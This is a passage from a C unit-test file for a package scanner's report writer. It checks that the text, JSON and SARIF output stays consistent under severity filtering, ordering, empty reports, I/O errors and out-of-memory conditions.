    (void)state;
    pw_report *rep = sample_report();
    pw_write_options opt;
    pw_write_options_init(&opt);
    assert_int_equal(opt.min_severity, PW_SEV_INFO);
    assert_int_equal(opt.color, 0);
    assert_int_equal(opt.quiet, 0);
    assert_null(opt.rules);
    opt.min_severity = PW_SEV_MEDIUM;

    char *text = write_fmt(rep, PW_FORMAT_TEXT, &opt, NULL);
    assert_null(strstr(text, "js-minified-file"));
    assert_null(strstr(text, "js-debug-log"));
    assert_non_null(strstr(text, "py-typosquat-name"));
    assert_non_null(strstr(text,
        "; 3 findings (1 critical, 1 high, 1 medium, 0 low, 0 info), "
        "2 omitted below medium; 2 errors\n"));
    free(text);

    text = write_fmt(rep, PW_FORMAT_JSON, &opt, NULL);
    save_sample("filtered", "json", text);
    json_t *root = parse_json(text);
    json_t *pkgs = json_object_get(root, "packages");
    assert_int_equal(json_array_size(
                         json_object_get(json_array_get(pkgs, 0), "findings")),
                     2);
    json_t *sum = json_object_get(root, "summary");
    assert_int_equal(jint(sum, "findings"), 3);
    assert_int_equal(jint(sum, "omitted"), 2);
    assert_string_equal(jstr(sum, "min_severity"), "medium");
    assert_int_equal(jint(json_object_get(sum, "by_severity"), "low"), 0);
    json_decref(root);
    free(text);

    text = write_fmt(rep, PW_FORMAT_SARIF, &opt, NULL);
    save_sample("filtered", "sarif", text);
    root = parse_json(text);
    json_t *run = sarif_run(root);
    assert_int_equal(json_array_size(json_object_get(run, "results")), 3);
    json_t *rules = json_object_get(
        json_object_get(json_object_get(run, "tool"), "driver"), "rules");
    assert_int_equal(json_array_size(rules), 3);
    assert_string_equal(jstr(json_array_get(rules, 0), "id"),
                        "js-obfuscated-eval");
    json_decref(root);
    free(text);

    opt.min_severity = PW_SEV_CRITICAL;
    text = write_fmt(rep, PW_FORMAT_TEXT, &opt, NULL);
    assert_non_null(strstr(text, "1 finding (1 critical, 0 high"));
    free(text);
    pw_report_free(rep);
}

/* (rule, path, line) of every finding, in the order each format lists
 * them, must be the same. */
static void test_same_order(void **state)
{
    (void)state;
    pw_report *rep = sample_report();
    char expect[1024] = "", got[1024] = "";
    for (size_t i = 0; i < pw_report_package_count(rep); i++)
        for (size_t j = 0; j < pw_report_finding_count(rep, i); j++) {
            const pw_finding *f = pw_report_finding(rep, i, j);
            snprintf(expect + strlen(expect), sizeof expect - strlen(expect),
                     "%s %zu;", f->rule, f->line);
        }

    char *text = write_fmt(rep, PW_FORMAT_TEXT, NULL, NULL);
    const char *rules_in_text[] = {"npm-install-downloader",
                                   "js-obfuscated-eval", "js-minified-file",
                                   "js-debug-log", "py-typosquat-name"};
    const char *prev = text;
    for (size_t i = 0; i < 5; i++) {
        const char *at = strstr(prev, rules_in_text[i]);
        assert_non_null(at);
        prev = at;
    }
    free(text);

    text = write_fmt(rep, PW_FORMAT_JSON, NULL, NULL);
    json_t *root = parse_json(text);
    size_t i;
    json_t *p;
    json_array_foreach(json_object_get(root, "packages"), i, p) {
        size_t j;
        json_t *f;
        json_array_foreach(json_object_get(p, "findings"), j, f)
            snprintf(got + strlen(got), sizeof got - strlen(got), "%s %lld;",
                     jstr(f, "rule"), (long long)jint(f, "line"));
    }
    assert_string_equal(got, expect);
    json_decref(root);
    free(text);

    got[0] = '\0';
    text = write_fmt(rep, PW_FORMAT_SARIF, NULL, NULL);
    root = parse_json(text);
    json_t *r;
    json_array_foreach(json_object_get(sarif_run(root), "results"), i, r) {
        json_t *region = json_object_get(
            json_array_get(json_object_get(r, "locations"), 0), "physicalLocation");
        region = json_object_get(region, "region");
        long long line = region ? (long long)jint(region, "startLine") : 0;
        snprintf(got + strlen(got), sizeof got - strlen(got), "%s %lld;",
                 jstr(r, "ruleId"), line);
    }
    assert_string_equal(got, expect);
    json_decref(root);
    free(text);
    pw_report_free(rep);
}

static void test_deterministic(void **state)
{
    (void)state;
    pw_report *a = sample_report();
    pw_report *b = sample_report();
    for (int fmt = PW_FORMAT_TEXT; fmt <= PW_FORMAT_SARIF; fmt++) {
        size_t n1, n2, n3;
        char *x = write_fmt(a, (pw_format)fmt, NULL, &n1);
        char *y = write_fmt(a, (pw_format)fmt, NULL, &n2);
        char *z = write_fmt(b, (pw_format)fmt, NULL, &n3);
        assert_int_equal(n1, n2);
        assert_memory_equal(x, y, n1);
        assert_int_equal(n1, n3);
        assert_memory_equal(x, z, n1);
        free(x);
        free(y);
        free(z);
    }
    pw_report_free(a);
    pw_report_free(b);
}

static void test_empty_report(void **state)
{
    (void)state;
    pw_report *rep = pw_report_new();
    char *text = write_fmt(rep, PW_FORMAT_TEXT, NULL, NULL);
    assert_string_equal(text, "0 packages: 0 malicious, 0 suspicious, 0 clean; "
                              "0 findings (0 critical, 0 high, 0 medium, "
                              "0 low, 0 info); 0 errors\n");
    free(text);

    text = write_fmt(rep, PW_FORMAT_JSON, NULL, NULL);
    save_sample("empty", "json", text);
    json_t *root = parse_json(text);
    assert_int_equal(json_array_size(json_object_get(root, "packages")), 0);
    assert_true(json_is_array(json_object_get(root, "errors")));
    assert_int_equal(jint(json_object_get(root, "summary"), "packages"), 0);
    json_decref(root);
    free(text);

    text = write_fmt(rep, PW_FORMAT_SARIF, NULL, NULL);
    save_sample("empty", "sarif", text);
    root = parse_json(text);
    json_t *run = sarif_run(root);
    assert_true(json_is_array(json_object_get(run, "results")));
    assert_int_equal(json_array_size(json_object_get(run, "results")), 0);
    json_decref(root);
    free(text);
    pw_report_free(rep);
}

static void test_usage_errors(void **state)
{
    (void)state;
    pw_report *rep = pw_report_new();
    pw_error err;
    memset(&err, 0, sizeof err);
    assert_int_equal(pw_report_write(rep, PW_FORMAT_TEXT, NULL, NULL, &err),
                     PW_ERR_USAGE);
    assert_int_equal(err.code, PW_ERR_USAGE);
    assert_int_equal(pw_report_write(NULL, PW_FORMAT_TEXT, stdout, NULL, NULL),
                     PW_ERR_USAGE);
    assert_int_equal(pw_report_write(rep, (pw_format)7, stdout, NULL, &err),
                     PW_ERR_USAGE);
    pw_write_options opt;
    pw_write_options_init(&opt);
    opt.min_severity = (pw_severity)9;
    assert_int_equal(pw_report_write(rep, PW_FORMAT_JSON, stdout, &opt, &err),
                     PW_ERR_USAGE);
    pw_report_free(rep);
}

static void test_write_failure(void **state)
{
    (void)state;
    FILE *full = fopen("/dev/full", "w");
    if (!full)
        skip();
    pw_report *rep = sample_report();
    for (int fmt = PW_FORMAT_TEXT; fmt <= PW_FORMAT_SARIF; fmt++) {
        pw_error err;
        memset(&err, 0, sizeof err);
        assert_int_equal(pw_report_write(rep, (pw_format)fmt, full, NULL, &err),
                         PW_ERR_IO);
        assert_int_equal(err.code, PW_ERR_IO);
        clearerr(full);
    }
    fclose(full);
    pw_report_free(rep);
}

/* ---- allocation failure inside jansson ------------------------------------------ */

static long alloc_budget = -1; /* < 0: unlimited */

static void *failing_malloc(size_t n)
{
    if (alloc_budget == 0)
        return NULL;
    if (alloc_budget > 0)
        alloc_budget--;
    return malloc(n);
}

static void test_json_oom(void **state)
{
    (void)state;
    pw_report *rep = sample_report();
    for (int fmt = PW_FORMAT_JSON; fmt <= PW_FORMAT_SARIF; fmt++) {
        size_t nref;
        char *ref = write_fmt(rep, (pw_format)fmt, NULL, &nref);
        json_set_alloc_funcs(failing_malloc, free);
        int done = 0;
        for (long budget = 0; !done && budget < 100000; budget++) {
            char *buf = NULL;
            size_t n = 0;
            FILE *f = open_memstream(&buf, &n);
            assert_non_null(f);
            pw_error err;
            memset(&err, 0, sizeof err);
            alloc_budget = budget;
            pw_status st = pw_report_write(rep, (pw_format)fmt, f, NULL, &err);
            alloc_budget = -1;
            fclose(f);
            if (st == PW_OK) {
                assert_int_equal(n, nref);
                assert_memory_equal(buf, ref, n);
                done = 1;
            } else {
                assert_int_equal(st, PW_ERR_NOMEM);
                assert_int_equal(n, 0); /* nothing half-written */
            }
            free(buf);
        }
        json_set_alloc_funcs(malloc, free);
        assert_true(done);
        free(ref);
    }
    pw_report_free(rep);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_text_sample),
        cmocka_unit_test(test_text_color),
        cmocka_unit_test(test_text_quiet),
        cmocka_unit_test(test_text_hostile),
        cmocka_unit_test(test_json_sample),
        cmocka_unit_test(test_json_hostile),
        cmocka_unit_test(test_sarif_sample),
        cmocka_unit_test(test_sarif_uris),
        cmocka_unit_test(test_sarif_hostile),
        cmocka_unit_test(test_sarif_rule_metadata),
        cmocka_unit_test(test_min_severity),
        cmocka_unit_test(test_same_order),
        cmocka_unit_test(test_deterministic),
        cmocka_unit_test(test_empty_report),
        cmocka_unit_test(test_usage_errors),
        cmocka_unit_test(test_write_failure),
        cmocka_unit_test(test_json_oom),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
